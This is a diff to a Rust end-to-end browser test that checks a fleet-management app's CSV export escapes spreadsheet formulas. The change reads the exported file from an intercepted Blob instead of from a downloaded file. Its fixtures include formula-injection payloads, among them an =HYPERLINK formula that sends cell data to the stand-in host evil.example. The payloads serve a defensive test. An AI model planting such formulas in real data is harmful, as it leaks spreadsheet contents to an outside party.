@@ -162,7 +162,8 @@ pub async fn vendor_strings_render_as_text(b: &Browser, env: &Env) -> TestResult
 }
 
 /// A vendor string a spreadsheet would run (`=HYPERLINK(...)`) leaves the
-/// CSV export as text: the downloaded file, read from disk.
+/// CSV export as text: the exported file's bytes, taken from the Blob the
+/// page hands to the download.
 pub async fn exported_csv_neutralises_formulas(b: &Browser, env: &Env) -> TestResult {
     let id = "0f1e2d3c-4b5a-4978-8877-665544332212";
     let formula = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Open\")";
@@ -171,24 +172,22 @@ pub async fn exported_csv_neutralises_formulas(b: &Browser, env: &Env) -> TestRe
         "Vehicles": [{ "VehicleId": "11111111-2222-4333-8444-555555555556", "LicencePlate": "@SUM(1)", "Name": formula, "Brand": "-2+3", "Model": "x", "VIN": "VF1XSS00000000002" }]
     });
     env.fault(json!({ "path": format!("{GROUPS}/{id}"), "method": "GET", "times": 3, "action": { "kind": "status", "status": 200, "body": group.to_string() } }))?;
-    let dir = std::env::temp_dir().join(format!("fleet-e2e-downloads-{}", std::process::id()));
-    let _ = std::fs::remove_dir_all(&dir);
-    std::fs::create_dir_all(&dir).map_err(|e| e.to_string())?;
-    b.allow_downloads_to(&dir).await?;
     b.goto(&format!("/groups/{id}")).await?;
     b.wait_for("[data-test=group-vehicles] tbody tr").await?;
+    // Keep every Blob the page turns into a download URL (injected through
+    // WebDriver, outside the page's CSP).
+    b.client
+        .execute("window.__exports = []; const make = URL.createObjectURL; URL.createObjectURL = (blob) => { window.__exports.push(blob); return make(blob); }; return true;", vec![])
+        .await
+        .map_err(|e| e.to_string())?;
     b.click("[data-test=export-csv]").await?;
-    let mut csv = String::new();
-    for _ in 0..50 {
-        let done = std::fs::read_dir(&dir).map_err(|e| e.to_string())?.filter_map(|e| e.ok()).find(|e| e.path().extension().is_some_and(|x| x == "csv"));
-        if let Some(file) = done {
-            csv = std::fs::read_to_string(file.path()).map_err(|e| e.to_string())?;
-            break;
-        }
-        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
-    }
-    let _ = std::fs::remove_dir_all(&dir);
-    ensure(!csv.is_empty(), "no CSV was downloaded")?;
+    let csv = b
+        .client
+        .execute_async("const done = arguments[arguments.length - 1]; const b = window.__exports[0]; b ? b.text().then(done) : done('');", vec![])
+        .await
+        .map_err(|e| e.to_string())?;
+    let csv = csv.as_str().unwrap_or_default().to_string();
+    ensure(!csv.is_empty(), "no CSV was exported")?;
     let row = csv.lines().nth(1).ok_or(format!("no data row in {csv:?}"))?;
     ensure(row.starts_with("'@SUM(1),\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"Open\"\")\","), format!("formulas not neutralised: {row}"))?;
     ensure(row.contains(",'-2+3 x,VF1XSS00000000002,"), format!("brand cell not neutralised: {row}"))
